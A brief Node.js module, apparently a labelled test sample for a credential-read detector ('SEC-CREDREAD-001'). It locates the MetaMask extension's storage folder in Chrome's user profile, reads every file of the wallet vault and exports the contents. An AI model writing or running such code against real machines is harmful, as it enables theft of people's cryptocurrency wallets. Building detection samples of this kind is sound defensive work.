const fs = require("fs");
const path = require("path");
const metamask = "nkbihfbeogaeaoehlefnkodbefgpgknn";
const dir = path.join(process.env.LOCALAPPDATA, "Google/Chrome/User Data/Default/Local Extension Settings", metamask);
// pi-expect: SEC-CREDREAD-001
const vault = fs.readdirSync(dir).map((f) => fs.readFileSync(path.join(dir, f)));
module.exports = vault;
